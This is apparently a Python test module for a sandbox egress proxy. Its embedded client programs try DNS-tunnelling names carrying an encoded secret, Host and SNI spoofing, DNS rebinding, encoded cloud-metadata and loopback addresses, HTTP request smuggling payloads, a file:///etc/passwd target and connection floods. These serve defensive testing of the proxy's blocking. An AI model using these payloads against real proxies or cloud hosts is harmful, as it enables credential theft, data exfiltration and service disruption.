"""The programs that try the way out of a sandbox; `egress.py` has what has to become of them.

Each knows the proxy from its environment, as any program does, and the suite's server by its port.
"""

THROUGH = """
import socket
FAR = number_of("FAR_PORT")
NEAR = int(os.environ["http_proxy"].rstrip("/").rpartition(":")[2])
def through(sent, wait=20):
    with socket.create_connection(("127.0.0.1", NEAR), wait) as one:
        one.sendall(sent)
        got = one.recv(65536)
    if got.split(b" ")[1:2] != [b"200"]:
        raise ValueError(got[:60])
    return got
def plainly(host, port, path="/", header=None):
    header = f"{host}:{port}" if header is None else header
    return through(f"GET http://{host}:{port}{path} HTTP/1.1\\r\\nHost: {header}\\r\\n\\r\\n"
                   .encode("utf-8", "surrogateescape"))
def by_tunnel(host, port):
    return through(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
                   .encode("utf-8", "surrogateescape"))
def by_socks(host, port, kind=3):
    raw = host if kind != 3 else host.encode("utf-8", "surrogateescape")
    with socket.create_connection(("127.0.0.1", NEAR), 20) as one:
        one.sendall(b"\\5\\1\\0")
        one.recv(2)
        length = bytes([len(raw)]) if kind == 3 else b""
        one.sendall(b"\\5\\1\\0" + bytes([kind]) + length + raw + port.to_bytes(2, "big"))
        if one.recv(10)[1:2] != b"\\0":
            raise ValueError("refused")
def every_way(host, port):
    attempt(f"GET {host}:{port}", lambda: plainly(host, port))
    attempt(f"CONNECT {host}:{port}", lambda: by_tunnel(host, port))
    attempt(f"SOCKS {host}:{port}", lambda: by_socks(host, port))
fact("the way that is allowed", plainly("far.example", FAR, "/allowed")[-3:])
"""
TUNNELS_NAMES = (
    THROUGH
    + """
secret = "c2VjcmV0" * 6
for name in (f"{secret}.tunnel.example", f"{secret}.far.example", f"far.example.{secret}.example",
             f"{secret}far.example", "far.example.tunnel.example.", f"_{secret}._tcp.far.example",
             "far.example\\x00.tunnel.example", "far.example%00.tunnel.example",
             "far\\u3002example",
             "x" * 63 + ".far.example", "x" * 64 + ".far.example", "y." * 120 + "far.example",
             "far.example\\\\.tunnel.example", "far.example#.tunnel.example", "xn--fr-via.example",
             "tunnel.example", "..far.example", "*.far.example", "far.example..", ""):
    every_way(name, FAR)
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06tunnel\\x07example\\0\\0\\x01\\0\\x01"
def asks_a_server(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.3)
        one.sendto(query, (address, 53))
        return one.recv(512)
for address in ("127.0.0.1", "127.0.0.53", "192.0.2.53", "169.254.169.253"):
    attempt(f"a name server at {address}", lambda: asks_a_server(address))
    every_way(address, 53)
attempt("the C library", lambda: socket.getaddrinfo("tunnel.example", 80))
end()
"""
)
SPOOFS = (
    THROUGH
    + """
# Each gets where the rules lead, or nowhere: what the far side sees of it is judged.
def goes(name, action):
    try:
        fact(name, action())
    except (OSError, ValueError) as error:
        fact(name, type(error).__name__)
goes("Host of another", lambda: plainly("far.example", FAR, header="victim.example"))
goes("two Hosts", lambda: through(
    f"GET http://far.example:{FAR}/ HTTP/1.1\\r\\nHost: far.example\\r\\n"
    "Host: victim.example\\r\\n\\r\\n".encode()))
goes("no Host", lambda: through(f"GET http://far.example:{FAR}/ HTTP/1.0\\r\\n\\r\\n".encode()))
def greets(server_name):
    import ssl
    context = ssl.create_default_context()
    with socket.create_connection(("127.0.0.1", NEAR), 20) as one:
        one.sendall(f"CONNECT far.example:{FAR} HTTP/1.1\\r\\nHost: victim.example\\r\\n\\r\\n"
                    .encode())
        one.recv(200)
        context.wrap_socket(one, server_hostname=server_name)
goes("SNI of another", lambda: greets("victim.example"))
for target in ("http://far.example@victim.example/", "http://victim.example#@far.example/",
               "http://victim.example\\\\@far.example/", "http://victim.example?far.example",
               "//victim.example/", "/", "*", "victim.example", "file:///etc/passwd",
               "gopher://victim.example:70/", "https://victim.example/"):
    attempt(f"target {target}", lambda: through(
        f"GET {target} HTTP/1.1\\r\\nHost: far.example:{FAR}\\r\\n\\r\\n".encode()))
for host in ("far.example@victim.example", "victim.example:80@far.example", "victim.example"):
    attempt(f"CONNECT {host}", lambda: through(
        f"CONNECT {host}:{FAR} HTTP/1.1\\r\\nHost: far.example:{FAR}\\r\\n\\r\\n".encode()))
end()
"""
)
REBINDS = (
    THROUGH
    + """
for host in ("metadata", "metadata6", "link", "private", "door", "any", "translated"):
    for port in (80, 443, number_of("HOST_TCP")):
        every_way(f"{host}.rebind.example", port)
for _ in range(4):
    every_way("flips.rebind.example", number_of("HOST_TCP"))
end()
"""
)
METADATA_NAMES = (
    THROUGH.replace("fact(", "# fact(")
    + """
for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376",
             "169.254.43518", "169.254.169.254.", "[::ffff:169.254.169.254]",
             "[::ffff:a9fe:a9fe]",
             "[fd00:ec2::254]",
             "[64:ff9b::a9fe:a9fe]", "[::169.254.169.254]", "[2002:a9fe:a9fe::1]", "169.254.170.2",
             "169.254.1.1", "[fe80::1]", "[fe80::1%25lo]", "100.100.100.200", "168.63.129.16",
             "192.0.0.192", "metadata.google.internal", "METADATA.GOOGLE.INTERNAL",
             "[fd20:ce::254]"):
    every_way(host, 80)
for raw in (b"\\xa9\\xfe\\xa9\\xfe", b"\\xa9\\xfe\\x01\\x01"):
    attempt(f"SOCKS with four bytes {raw}", lambda: by_socks(raw, 80, kind=1))
for raw in (bytes(10) + b"\\xff\\xff\\xa9\\xfe\\xa9\\xfe",
            bytes.fromhex("fd000ec2" + "0" * 21 + "254")):
    attempt(f"SOCKS with sixteen bytes {raw}", lambda: by_socks(raw, 80, kind=4))
end()
"""
)
HOST_DOORS = (
    THROUGH.replace("fact(", "# fact(")
    + """
port = number_of("HOST_TCP")
for host in ("127.0.0.1", "localhost", "LOCALHOST.", "127.1", "127.0.1", "2130706433",
             "0x7f.1", "0177.1",
             "127.0.0.53", "0.0.0.0", "0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::127.0.0.1]",
             "[64:ff9b::7f00:1]", "far.example"):
    every_way(host, port)
for raw in (b"\\x7f\\0\\0\\1", bytes(4)):
    attempt(f"SOCKS with four bytes {raw}", lambda: by_socks(raw, port, kind=1))
for raw in (bytes(15) + b"\\1", bytes(16), bytes(10) + b"\\xff\\xff\\x7f\\0\\0\\1"):
    attempt(f"SOCKS with sixteen bytes {raw}", lambda: by_socks(raw, port, kind=4))
def asks_for(command):
    with socket.create_connection(("127.0.0.1", NEAR), 20) as one:
        one.sendall(b"\\5\\1\\0")
        one.recv(2)
        one.sendall(b"\\5" + bytes([command]) + b"\\0\\1\\x7f\\0\\0\\1" + port.to_bytes(2, "big"))
        if one.recv(10)[1:2] != b"\\0":
            raise ValueError("refused")
attempt("SOCKS BIND", lambda: asks_for(2))
attempt("SOCKS UDP", lambda: asks_for(3))
end()
"""
)
NEIGHBOURS_PROXY = (
    THROUGH.replace("fact(", "# fact(")
    + """
# This sandbox may go nowhere; the neighbour may, by the same port of a loopback of its own.
every_way("far.example", FAR)
every_way("127.0.0.1", NEAR)
every_way("localhost", NEAR)
for address in ("127.0.0.2", "127.255.255.254", "0.0.0.0"):
    def there(address=address):
        with socket.create_connection((address, NEAR), 5) as one:
            one.sendall(f"GET http://far.example:{FAR}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
            if b" 200 " not in one.recv(200):
                raise ValueError("refused")
    attempt(f"the port at {address}", there)
end()
"""
)
NEIGHBOUR_GOES = THROUGH + "end()\n"
SMUGGLES = (
    THROUGH
    + """
start = f"POST http://far.example:{FAR}/outer HTTP/1.1\\r\\nHost: far.example:{FAR}\\r\\n".encode()
inner = f"GET /smuggled HTTP/1.1\\r\\nHost: victim.example\\r\\n\\r\\n".encode()
length = b"Content-Length: %d\\r\\n" % len(inner)
for name, sent in {
    "behind a body": start + b"Content-Length: 0\\r\\n\\r\\n" + inner,
    "two lengths": start + b"Content-Length: 0\\r\\n" + length + b"\\r\\n" + inner,
    "a list of lengths": start + b"Content-Length: 0, %d\\r\\n\\r\\n" % len(inner) + inner,
    "a signed length": start + b"Content-Length: +0\\r\\n\\r\\n" + inner,
    "length and chunks": start + b"Content-Length: 0\\r\\n"
        + b"Transfer-Encoding: chunked\\r\\n\\r\\n" + inner,
    "chunks": start + b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner,
    "odd chunks": start + b"Transfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner,
    "a folded line": start + b"X: y\\r\\n Content-Length: 0\\r\\n\\r\\n" + inner,
    "a bare line feed": start + b"X: y\\nContent-Length: 0\\r\\n\\r\\n" + inner,
    "a bare return": start + b"X: y\\rContent-Length: 0\\r\\n\\r\\n" + inner,
    "a space before the colon": start + b"Content-Length : 0\\r\\n\\r\\n" + inner,
    "a zero byte": start + b"X: y\\0z\\r\\n\\r\\n" + inner,
    "two requests": start + b"\\r\\n" + inner,
    "an upgrade": start + b"Connection: upgrade\\r\\nUpgrade: x\\r\\n\\r\\n" + inner,
    "a line in the target": b"GET http://far.example:%d/a\\r\\nX: GET /smuggled HTTP/1.1" % FAR
        + b"\\r\\n\\r\\n" + inner,
    "a space in the target": b"GET http://far.example:%d/a /smuggled HTTP/1.1\\r\\n\\r\\n" % FAR,
}.items():
    try:
        fact(name, through(sent)[:20])
    except (OSError, ValueError) as error:
        fact(name, f"{type(error).__name__} {error}")
attempt("a head without end", lambda: through(start + b"X: " + b"y" * 200_000))
attempt("ten thousand lines", lambda: through(start + b"X: y\\r\\n" * 10_000 + b"\\r\\n"))
end()
"""
)
CROWDS = (
    THROUGH
    + """
kept = []
def begins(sent):
    one = socket.socket()
    one.setblocking(False)
    kept.append(one)
    try:
        one.connect(("127.0.0.1", NEAR))
    except BlockingIOError:
        pass
    return sent
for number in range(1000):
    begins(b"")
hold(0.5)
asks = (b"", b"G", b"GET http://far.example/ HTTP/1.1\\r\\n", b"\\5", b"\\5\\1\\0", b"\\5\\377",
        f"CONNECT far.example:{FAR} HTTP/1.1\\r\\n\\r\\n".encode())
for number, one in enumerate(kept):
    try:
        one.send(asks[number % len(asks)])
    except OSError:
        pass
fact("connections", len(kept))
hold(1.5)
if os.fork():
    end()
os.closerange(0, 3)
time.sleep(8)
"""
)
NEVER_READS = (
    THROUGH
    + """
kept = []
for number in range(6):
    one = socket.create_connection(("127.0.0.1", NEAR), 20)
    host = f"far.example:{FAR}"
    if number % 2:
        one.sendall(f"CONNECT {host} HTTP/1.1\\r\\n\\r\\n".encode())
        one.recv(100)
        one.sendall(f"GET /flood HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    else:
        one.sendall(f"GET http://{host}/flood HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
    kept.append(one)
hold(2.0)
end()
"""
)
